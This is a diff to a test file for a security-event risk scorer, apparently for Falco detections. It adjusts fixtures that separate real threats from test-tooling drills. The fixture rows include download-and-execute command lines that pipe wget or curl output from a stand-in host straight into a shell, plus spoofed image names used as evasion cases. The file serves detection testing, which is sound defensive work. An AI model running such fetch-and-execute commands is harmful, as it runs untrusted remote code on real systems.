@@ -42,7 +42,7 @@ describe('risk factors: one row per factor', () => {
     ['download-and-execute', { 'proc.pcmdline': 'bash -c wget -qO- http://x.example/a | /bin/bash' }, 20],
     ['download-and-execute', { 'proc.cmdline': 'sh -c "$(curl -fsSL http://x.example/a)"' }, 20],
     ['anonymous-k8s-user', { 'ka.user.name': 'system:anonymous' }, 12],
-    ['test-tooling', { 'proc.exepath': '/bin/event-generator', 'proc.cmdline': 'event-generator run syscall --loop' }, -35],
+    ['test-tooling', { 'proc.exepath': '/bin/event-generator', 'proc.cmdline': 'event-generator run syscall --loop', 'k8s.pod.name': 'falco-event-generator-7c9' }, -35],
     ['test-tooling', { 'container.image.repository': 'docker.io/falcosecurity/event-generator' }, -35],
     ['test-tooling', { 'proc.name': 'event-generator', 'container.name': 'falco-event-generator-5d8f' }, -35],
     ['test-tooling', { 'ka.user.name': 'system:serviceaccount:default:falco-event-generator', 'ka.target.name': 'vanilla-deployment' }, -35],
@@ -98,9 +98,12 @@ describe('risk factors: one row per factor', () => {
     ['download-and-execute', { 'proc.cmdline': 'sh -c cat /etc/hosts | grep curl' }],
     ['image-build', { 'proc.name': 'apt-get', 'proc.pname': 'bash' }],
     ['request-denied', { 'ka.response.code': '200' }],
+    ['ci-runner', { 'proc.pname': 'jenkins', 'proc.name': 'bash' }],
     // A name alone is never a drill, and evidence against cancels the rest.
     ['test-tooling', { 'proc.name': 'event-generator' }],
     ['test-tooling', { 'proc.exepath': '/bin/event-generator' }],
+    // Name, install path and command line are all chosen by the process itself.
+    ['test-tooling', { 'proc.name': 'event-generator', 'proc.exepath': '/bin/event-generator', 'proc.cmdline': 'event-generator run syscall --loop' }],
     ['test-tooling', { 'proc.name': 'event-generator', 'proc.exepath': '/tmp/.x/event-generator', 'proc.cmdline': 'event-generator run syscall' }],
     ['test-tooling', { ...REAL_EVENT_GENERATOR, 'container.image.repository': 'evil/miner' }],
     ['test-tooling', { 'container.image.repository': 'evil.example/falcosecurity/event-generator' }],
